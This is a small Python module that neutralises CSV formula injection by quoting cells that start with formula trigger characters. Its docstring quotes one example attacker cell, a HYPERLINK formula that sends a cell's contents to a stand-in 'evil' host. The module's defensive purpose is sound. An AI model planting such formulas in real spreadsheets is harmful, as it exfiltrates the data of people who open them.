"""CSV cells that a spreadsheet will not run as formulas (OWASP "CSV injection").

Captured text comes from production users and LLM outputs, so a cell such as `=HYPERLINK("http://evil/?"&A1)`
is attacker-written. A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading single
quote, which spreadsheets show as text; every other cell is written unchanged.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralize_cell(value: Any) -> Any:
    """`value` with a leading `'` when it is text a spreadsheet would read as a formula; other values as given."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def neutralize_row(row: Mapping[str, Any]) -> dict[str, Any]:
    """Every cell of a csv.DictWriter row passed through neutralize_cell."""
    return {name: neutralize_cell(value) for name, value in row.items()}
